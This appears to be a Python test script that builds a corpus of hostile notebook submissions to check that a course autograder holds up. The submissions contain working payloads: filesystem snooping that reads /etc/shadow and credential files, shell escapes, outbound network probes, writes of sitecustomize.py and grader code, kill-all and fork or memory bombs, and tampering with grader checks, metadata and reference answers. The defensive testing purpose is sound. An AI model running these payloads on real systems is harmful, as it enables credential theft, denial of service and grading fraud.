"""Writes the adversarial corpus: ``tests/adversarial/corpus/<attack>.ipynb``.

Every attack is a submission of the fixture module ``m1_counts`` (tests/fixtures/course),
made from its real release (``drylab build``) the way a resident would: by typing code into
the answer cells, adding cells, or editing the file. What the grader must make of each is in
``expected.yaml`` next to this file. Run ``python tests/adversarial/make_corpus.py`` after
changing the fixture module or an attack here; the test reads the committed notebooks.

Two attacks need facts only known at grading time and are made by the test itself
(:func:`huge_notebook`: 100 MB is not committed; :func:`symlink_reference`: it plants a link
to the reference cache, whose path an attacker who knows the deployment could guess).
"""

from __future__ import annotations

import copy
import functools
import json
import shutil
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"
FIXTURE = HERE.parent / "fixtures" / "course"
MODULE = "m1_counts"

#: What a resident who solved the questions types (used by attacks that also answer honestly,
#: to show that points earned before an attack stand).
SOLVED_1 = 'n_adults = int((patients["age"] >= 18).sum())\n'
SOLVED_2 = 'mean_glucose_mmol = float(patients["glucose_mgdl"].mean() / 18.0)\n'


def build_release() -> dict:
    """The release of ``m1_counts``, built by nbgrader from the fixture course."""
    from autograder.build import build_course

    with tempfile.TemporaryDirectory() as tmp:
        course = Path(tmp) / "course"
        shutil.copytree(FIXTURE, course)
        build_course(course, [MODULE])
        return json.loads((course / "release" / MODULE / f"{MODULE}.ipynb").read_text())


def _cell(nb: dict, grade_id: str) -> dict:
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id:
            return cell
    raise KeyError(grade_id)


def _code(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "id": None, "metadata": {},
            "outputs": [], "source": source}


def _answer(nb: dict, grade_id: str, source: str) -> dict:
    _cell(nb, grade_id)["source"] = source
    return nb


def _insert_after(nb: dict, grade_id: str, sources: list[str]) -> dict:
    i = nb["cells"].index(_cell(nb, grade_id))
    nb["cells"][i + 1:i + 1] = [_code(s) for s in sources]
    return nb


def _renumber(nb: dict) -> dict:
    for i, cell in enumerate(nb["cells"]):
        cell["id"] = f"atk{i:03d}"
    return nb


# ---------------------------------------------------------------------------------- attacks
# Each takes a fresh copy of the release and returns the submission (a notebook dict or the
# raw bytes of the file).

SNOOP = r'''# I'll just have a look around first
import glob, json, os
seen = {"listdir": {}, "found": [], "read": {}, "procs": [], "env": dict(os.environ)}
for d in ["/", "/home", "/root", "/srv", "/work", "/var", "/opt", "/mnt", "/tmp",
          os.getcwd(), "..", "../..", "../../..", "../../../.."]:
    try:
        seen["listdir"][d] = sorted(os.listdir(d))[:100]
    except Exception as e:
        seen["listdir"][d] = type(e).__name__
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in root:
        dirs[:] = []
        continue
    for f in files:
        if (f.endswith((".ipynb", ".db", ".sqlite", ".sqlite3", ".parquet"))
                or "gradebook" in f or "reference" in root or "submitted" in root
                or "source" in root or "journal" in f):
            seen["found"].append(os.path.join(root, f))
for path in seen["found"][:200] + ["/etc/shadow", "/etc/passwd", "/root/.bash_history",
                                   "../../source/m1_counts/m1_counts.ipynb",
                                   "../../../gradebook.db"]:
    try:
        with open(path, "rb") as fh:
            seen["read"][path] = fh.read(4096).decode("utf-8", "replace")
    except Exception as e:
        seen["read"][path] = type(e).__name__
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                seen["procs"].append(fh.read().replace(b"\0", b" ").decode("utf-8", "replace"))
        except Exception:
            pass
print("DRYLAB-ATTACK-REPORT " + json.dumps(seen))
n_adults = None
'''

WRITE_OUTSIDE = r'''# leave a little something for the next resident, and for the grader
import json, os, site, sys
import autograder
targets = [
    "/tmp/drylab-pwned",
    "../drylab-pwned", "../../drylab-pwned", "../../../drylab-pwned",
    "/etc/drylab-pwned", "/usr/lib/drylab-pwned", "/root/drylab-pwned", "/home/drylab-pwned",
    os.path.join(sys.prefix, "drylab-pwned"),
    os.path.join(site.getsitepackages()[0], "sitecustomize.py"),
    os.path.join(os.path.dirname(autograder.__file__), "checks.py"),
    os.path.join(os.path.dirname(autograder.__file__), "drylab-pwned"),
]
wrote = {}
for t in targets:
    try:
        with open(t, "a") as fh:
            fh.write("\nprint('pwned')\n")
        wrote[t] = "WROTE"
    except Exception as e:
        wrote[t] = type(e).__name__
try:
    os.rename(os.getcwd(), "/tmp/moved")
    wrote["rename cwd"] = "WROTE"
except Exception as e:
    wrote["rename cwd"] = type(e).__name__
print("DRYLAB-ATTACK-REPORT " + json.dumps(wrote))
n_adults = None
'''

NETWORK = r'''# maybe the answers are online, or I can send my data home
import json, socket, urllib.request
tried = {}
for host, port in [("1.1.1.1", 53), ("8.8.8.8", 53), ("93.184.216.34", 80), ("127.0.0.1", 8000),
                   ("127.0.0.1", 8888), ("10.0.0.1", 22)]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        tried[f"{host}:{port}"] = "CONNECTED"
    except Exception as e:
        tried[f"{host}:{port}"] = type(e).__name__
try:
    tried["dns"] = socket.gethostbyname("example.com")
except Exception as e:
    tried["dns"] = type(e).__name__
try:
    urllib.request.urlopen("http://example.com", timeout=2)
    tried["http"] = "CONNECTED"
except Exception as e:
    tried["http"] = type(e).__name__
print("DRYLAB-ATTACK-REPORT " + json.dumps(tried))
n_adults = sum(v == "CONNECTED" for v in tried.values())
'''

KILL = r'''# if the grader is gone it cannot fail me
import os, signal
for pid in [os.getppid(), 1]:
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception as e:
        print(pid, type(e).__name__)
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except Exception:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except Exception as e:
    print(type(e).__name__)
n_adults = 10**9
'''

DAEMON = r'''# a helper that keeps working after my notebook is done
import os, subprocess, time
subprocess.Popen(["sleep", "600"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for d in ["..", "../..", "/tmp"]:
                try:
                    os.listdir(d)
                except Exception:
                    pass
            time.sleep(0.5)
    os._exit(0)
time.sleep(0.5)
n_adults = None
'''

SHELL = r'''# the shell sees more than Python, surely
!id; cat /etc/shadow; ls -la / /root /home /srv 2>&1 | head -50; mount | head -30; ps aux | head
n_adults = None
'''


def sleep_past_deadline(nb):
    # every cell stays under the cell timeout; together they overrun the wall-clock limit
    _answer(nb, "a1_1", "import time\ntime.sleep(4)\nn_adults = None\n")
    return _insert_after(nb, "a1_1", ["time.sleep(4)"] * 6)


def os_exit(nb):
    _answer(nb, "a1_1", SOLVED_1)
    return _answer(nb, "a1_2", "import os\nos._exit(0)\n")


def patch_builtins(nb):
    _answer(nb, "a1_1", (
        "import builtins\n"
        "builtins.isinstance = lambda obj, kind: True\n"
        "builtins.len = lambda obj: 10**9\n"
        'n_adults = "all of them"\n'
    ))
    return _answer(nb, "a1_2", 'mean_glucose_mmol = "about six"\n')


def patch_checks(nb):
    return _answer(nb, "a1_1", (
        "import json\n"
        "# failed asserts are now silent, and every captured answer says 42\n"
        "get_ipython().set_custom_exc((AssertionError,), lambda *a, **k: None)\n"
        "_real_dumps = json.dumps\n"
        "json.dumps = lambda obj, *a, **k: _real_dumps({'type': 'json', 'value': 42})\n"
        "n_adults = -1\n"
    ))


def edit_test_cells(nb):
    _answer(nb, "a1_1", "n_adults = 0\n")
    _answer(nb, "a1_2", "mean_glucose_mmol = 0.0\n")
    _cell(nb, "q1_1_adults")["source"] = "# tests removed, everything passes\npass\n"
    _cell(nb, "q1_2_glucose")["source"] = "assert True\n"
    return nb


def delete_test_cells(nb):
    _answer(nb, "a1_1", "n_adults = 0\n")
    _answer(nb, "a1_2", "mean_glucose_mmol = 0.0\n")
    drop = {"q1_1_adults", "q1_2_glucose"}
    nb["cells"] = [c for c in nb["cells"]
                   if c["metadata"].get("nbgrader", {}).get("grade_id") not in drop]
    return nb


def change_metadata(nb):
    _answer(nb, "a1_1", SOLVED_1)
    _cell(nb, "q1_1_adults")["metadata"]["nbgrader"]["points"] = 100
    _cell(nb, "q1_2_glucose")["metadata"]["nbgrader"].update(grade_id="q1_2_free", points=50)
    a12 = _cell(nb, "a1_2")
    a12["metadata"]["nbgrader"].update(grade=True, points=50)
    bonus = _code("assert True\n")
    bonus["metadata"]["nbgrader"] = {"schema_version": 3, "grade": True, "solution": False,
                                     "locked": True, "grade_id": "bonus", "points": 1000}
    nb["cells"].append(bonus)
    return nb


def weird_values(nb):
    _answer(nb, "a1_1", "n_adults = True  # bool is an int, and 0 <= True <= len(patients)\n")
    return _answer(nb, "a1_2", 'mean_glucose_mmol = float("nan")\n')


def wrong_kernel_name(nb):
    # an honest, fully solved notebook that claims to be an R notebook
    _answer(nb, "a1_1", SOLVED_1)
    _answer(nb, "a1_2", SOLVED_2)
    nb["metadata"]["kernelspec"] = {"display_name": "R", "language": "R", "name": "ir"}
    nb["metadata"]["language_info"] = {"name": "R"}
    return nb


def corrupt_json(nb):
    text = json.dumps(nb, indent=1)
    return text[: len(text) // 2].encode("utf-8")


def non_utf8(nb):
    _answer(nb, "a1_1", SOLVED_1)
    nb["cells"][0]["source"] += "\n\nNotes: caf\u00e9 \u00e0 c\u00f4t\u00e9.\n"
    return json.dumps(nb, indent=1, ensure_ascii=False).encode("latin-1")


#: Attacks typed into the answer cell of question 1.1 and nothing else.
FIRST_ANSWER = {
    "fork_bomb": "import os\nn_adults = None\nwhile True:\n    os.fork()\n",
    "memory_bomb": 'hog = []\nwhile True:\n    hog.append(b"x" * 50_000_000)\n',
    "infinite_loop": "n_adults = 0\nwhile True:\n    n_adults += 1\n",
    "swallow_interrupt": (
        "import signal, time\n"
        "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "while True:\n"
        "    try:\n"
        "        time.sleep(0.1)\n"
        "    except KeyboardInterrupt:\n"
        "        pass  # you will not stop me\n"
    ),
    "huge_stdout": SOLVED_1 + 'for _ in range(120):\n    print("A" * 100_000)\n',
    "huge_image": (
        "import os\nfrom IPython.display import Image, display\n"
        'blob = b"\\x89PNG\\r\\n\\x1a\\n" + os.urandom(4_000_000)\n'
        "for _ in range(3):\n    display(Image(data=blob))\n"
        "n_adults = None\n"
    ),
    "snoop_files": SNOOP,
    "shell_escape": SHELL,
    "network": NETWORK,
    "write_outside": WRITE_OUTSIDE,
    "kill_processes": KILL,
    "background_daemon": DAEMON,
    "input_prompt": 'n_adults = int(input("How many adults? "))\n',
}

ATTACKS = {
    **{name: functools.partial(_answer, grade_id="a1_1", source=code)
       for name, code in FIRST_ANSWER.items()},
    **{f.__name__: f for f in [
        sleep_past_deadline, os_exit, patch_builtins, patch_checks, edit_test_cells,
        delete_test_cells, change_metadata, weird_values, wrong_kernel_name, corrupt_json,
        non_utf8,
    ]},
}


def huge_notebook(release: dict, size: int = 100 * 1024 * 1024) -> bytes:
    """A 100 MB submission: the release with a giant output kept in a cell (made at test time)."""
    nb = copy.deepcopy(release)
    cell = _cell(nb, "a1_1")
    cell["source"] = SOLVED_1
    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "B" * size}]
    return json.dumps(nb).encode("utf-8")


def symlink_reference(release: dict, reference_file: str) -> dict:
    """Plant ``.drylab/answers/q1_1_adults.json`` as a link to the reference cache.

    The capture after test 1.1 has written the resident's own answer; the next answer cell
    replaces it with a link to the instructor's expected value, which the grader, outside the
    sandbox, would follow. ``reference_file`` is the host path a resident who knows the
    deployment could guess.
    """
    nb = copy.deepcopy(release)
    _answer(nb, "a1_1", "n_adults = -1\n")
    _answer(nb, "a1_2", (
        "import os\n"
        'link = os.path.join(".drylab", "answers", "q1_1_adults.json")\n'
        "if os.path.lexists(link):\n"
        "    os.remove(link)\n"
        f"os.symlink({reference_file!r}, link)\n"
        "mean_glucose_mmol = None\n"
    ))
    return _renumber(nb)


def write_corpus(release: dict, out: Path = CORPUS) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for name, attack in ATTACKS.items():
        sub = attack(copy.deepcopy(release))
        data = sub if isinstance(sub, bytes) else (
            json.dumps(_renumber(sub), indent=1, ensure_ascii=False) + "\n").encode("utf-8")
        path = out / f"{name}.ipynb"
        path.write_bytes(data)
        written.append(path)
    return written


if __name__ == "__main__":
    sys.path.insert(0, str(HERE.parents[1]))
    for p in write_corpus(build_release()):
        print(p.relative_to(HERE.parents[1]))
